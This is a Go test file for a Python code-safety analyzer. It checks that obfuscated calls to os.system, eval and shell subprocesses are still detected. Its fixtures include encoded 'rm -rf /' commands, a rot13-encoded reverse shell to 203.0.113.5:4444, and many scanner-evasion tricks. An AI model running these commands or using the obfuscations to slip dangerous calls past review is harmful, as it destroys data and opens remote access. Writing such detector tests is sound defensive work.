package main

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/limitgraph/limit/sdk/governance"
)

// hasFinding reports whether fs holds a finding of rule on line.
func hasFinding(fs []governance.Finding, rule string, line int) bool {
	return slices.ContainsFunc(fs, func(f governance.Finding) bool {
		return f.RuleID == rule && f.Location != nil && f.Location.Line == line
	})
}

// TestComputedNames checks that names of callables and modules, and command strings,
// computed from constants are resolved as the literals they make: concatenated, joined,
// %-formatted, in f-strings and str.format, sliced, decoded (hex, base64, rot13), and
// through names assigned once.
func TestComputedNames(t *testing.T) {
	r := configured(t, `{}`)
	for _, tt := range []struct {
		name, code, rule string
		line             int
	}{
		{"getattr of a concatenation", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "codesafety.B605", 2},
		{"getattr of a join", "import os\ngetattr(os, ''.join(['sy', 'stem']))('id')\n", "codesafety.B605", 2},
		{"join of a tuple in a name", "import os\nP = ('sy', 'stem')\ngetattr(os, ''.join(P))('id')\n", "codesafety.B605", 3},
		{"import of a concatenation, name in a constant", "name = 'system'\ngetattr(__import__('o' + 's'), name)('id')\n", "codesafety.B605", 2},
		{"name assigned a concatenation once", "NAME = 'sys' + 'tem'\nM = __import__('o' + 's')\ngetattr(M, NAME)('id')\n", "codesafety.B605", 3},
		{"getattr of Popen with shell=True", "import subprocess\ngetattr(subprocess, 'Popen')('id', shell=True)\n", "codesafety.B602", 2},
		{"vars(os) item", "import os\nvars(os)['sys' + 'tem']('id')\n", "codesafety.B605", 2},
		{"os.__dict__ item", "import os\nos.__dict__['system']('id')\n", "codesafety.B605", 2},
		{"import_module of a concatenation", "import importlib\nm = importlib.import_module('o' + 's')\nm.system('id')\n", "codesafety.B605", 3},
		{"reversed slice", "import os\ngetattr(os, 'metsys'[::-1])('id')\n", "codesafety.B605", 2},
		{"slice with bounds", "import os\ngetattr(os, 'xxsystemxx'[2:-2])('id')\n", "codesafety.B605", 2},
		{"percent format", "import os\ngetattr(os, '%stem' % 'sys')('id')\n", "codesafety.B605", 2},
		{"percent format of a tuple", "import os\ngetattr(os, '%s%s' % ('sy', 'stem'))('id')\n", "codesafety.B605", 2},
		{"f-string of a constant", "import os\na = 'sys'\ngetattr(os, f'{a}tem')('id')\n", "codesafety.B605", 3},
		{"str.format", "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('id')\n", "codesafety.B605", 2},
		{"upper then lower", "import os\ngetattr(os, 'SYSTEM'.lower())('id')\n", "codesafety.B605", 2},
		{"bytes.fromhex", "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')\n", "codesafety.B605", 2},
		{"base64", "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')\n", "codesafety.B605", 2},
		{"base64 under an alias", "import os\nfrom base64 import b64decode as d\ngetattr(os, d(b'c3lzdGVt').decode('ascii'))('id')\n", "codesafety.B605", 3},
		{"rot13", "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')\n", "codesafety.B605", 2},
		{"chr codes", "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')\n", "codesafety.B605", 2},
		{"chr comprehension", "import os\ngetattr(os, ''.join(chr(c) for c in (115, 121, 115, 116, 101, 109)))('id')\n", "codesafety.B605", 2},
		{"builtins eval by a computed key", "__builtins__.__dict__['ev' + 'al'](expr)\n", "codesafety.B307", 1},
		{"sys.modules of a reversed name", "import sys\nsys.modules['so'[::-1]].system('id')\n", "codesafety.B605", 2},
		{"shell= by a computed keyword", "import subprocess\nsubprocess.run('id', **{'sh' + 'ell': True})\n", "codesafety.B602", 2},
		{"shell in a computed argv", "import subprocess\nsubprocess.run(['/bin/' + 'sh', '-c', 'id'])\n", "codesafety.B602", 2},
		// Command strings computed from constants, run.
		{"reversed command", "import os\nos.system('/ fr- mr'[::-1])\n", "codesafety.destructive", 2},
		{"base64 command", "import os, base64\nos.system(base64.b64decode('cm0gLXJmIC8=').decode())\n", "codesafety.destructive", 2},
		{"hex command as bytes", "import subprocess\nsubprocess.run(bytes.fromhex('726d202d7266202f'), shell=True)\n", "codesafety.destructive", 2},
		{"rot13 reverse shell", "import os, codecs\nos.system(codecs.decode('onfu -v >& /qri/gpc/203.0.113.5/4444 0>&1', 'rot13'))\n", "codesafety.reverse-shell", 2},
		{"percent-formatted command", "import os\nos.system('rm -rf %s' % '/')\n", "codesafety.destructive", 2},
		{"format of a command", "import os\nT = '/'\nos.system('rm -rf {}'.format(T))\n", "codesafety.destructive", 3},
		{"command in a name from a join", "import subprocess\nC = ' '.join(['rm', '-rf', '/'])\nsubprocess.run(C, shell=True)\n", "codesafety.destructive", 2},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if fs := evaluate(t, r, tt.code); !hasFinding(fs, tt.rule, tt.line) {
				t.Fatalf("no %s on line %d: %+v", tt.rule, tt.line, fs)
			}
		})
	}
	// Folding finds nothing in ordinary programs that compute strings.
	for _, code := range []string{
		"print('=' * 80)\nprint('-'.join(['a', 'b']).upper())\n",
		"data = b'\\0' * (1 << 30)\nwith open('blob.bin', 'wb') as f:\n    f.write(data)\n",
		"import base64\nprint(base64.b64decode('aGVsbG8=').decode())\n",
		"name = 'report'\npath = f'{name}.csv'\nwith open(path, 'w') as f:\n    f.write('%s,%s\\n' % ('a', 'b'))\n",
		"import codecs\nprint(codecs.decode('uryyb', 'rot13'))\n",
	} {
		if fs := evaluate(t, r, code); len(fs) != 0 {
			t.Errorf("benign program flagged: %q: %+v", code, fs)
		}
	}
}

// TestFoldingBounds checks that strings computed from constants beyond the analyzer's
// bounds (sizes that double name after name, names defined by a chain deeper than it
// follows) are beyond the rule's limits where they name a callable or may run, never
// passed as clean; and that the same values only printed are not.
func TestFoldingBounds(t *testing.T) {
	r := configured(t, `{"workers": 1, "timeout": "20s"}`)
	doubling := func(use string) string {
		var b strings.Builder
		b.WriteString("import os\na0 = 'system'\n")
		for i := 1; i < 40; i++ {
			fmt.Fprintf(&b, "a%d = a%d + a%d\n", i, i-1, i-1)
		}
		return b.String() + use
	}
	deep := func(n int) string {
		var b strings.Builder
		fmt.Fprintf(&b, "import os\ndef f():\n    getattr(os, c%d)('id')\n", n)
		for i := n; i > 0; i-- {
			fmt.Fprintf(&b, "c%d = c%d + ''\n", i, i-1)
		}
		return b.String() + "c0 = 'system'\n"
	}
	for _, tc := range []struct{ name, code string }{
		{"doubled names to getattr", doubling("getattr(os, a39[:6])('id')\n")},
		{"doubled names to os.system", doubling("os.system(a39[:6])\n")},
		{"repetition sliced", "import os\ngetattr(os, ('system' * 10**9)[:6])('id')\n"},
		{"chain of names deeper than followed", deep(100)},
	} {
		_, err := r.Evaluate(context.Background(), governance.EvaluateRequest{Stage: governance.StagePre, ContentType: "code/python", Content: tc.code})
		if err == nil || !strings.Contains(err.Error(), "computed from constants") || !errors.Is(err, governance.ErrBeyondLimits) {
			t.Errorf("%s: got %v, want an error beyond the rule's limits", tc.name, err)
		}
	}
	for _, code := range []string{doubling("print(len(a39))\n"), deep(20)} {
		if _, err := r.Evaluate(context.Background(), governance.EvaluateRequest{Stage: governance.StagePre, ContentType: "code/python", Content: code}); err != nil {
			t.Errorf("within the bounds or only printed: %v", err)
		}
	}
}
